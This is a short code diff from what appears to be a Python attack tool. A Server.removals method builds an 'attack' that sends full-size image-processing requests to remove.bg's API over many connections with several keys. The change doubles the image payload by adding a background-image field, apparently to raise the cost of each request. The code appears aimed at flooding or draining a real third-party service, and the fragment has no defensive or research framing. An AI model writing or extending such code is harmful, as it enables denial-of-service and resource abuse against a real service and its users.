@@ -115,8 +115,9 @@ class Server:
 
     def removals(self, client: str, connections: int, photo: bytes, *keys: str) -> Attack:
         """Return an attack that requests the largest results from remove.bg's route."""
-        fields = {"format": "png", "size": "full", "bg_color": "fff"}
-        encoder = MultipartEncoder({"image_file": ("a.jpg", photo, "image/jpeg"), **fields})
+        file = ("a.jpg", photo, "image/jpeg")
+        fields = {"format": "png", "size": "full", "image_file": file, "bg_image_file": file}
+        encoder = MultipartEncoder(fields)
         body, content_type = base64.b64encode(encoder.read()).decode(), encoder.content_type
         return self.attack(
             client, connections, *keys, body=body, content_type=content_type, path=REMOVEBG_PATH
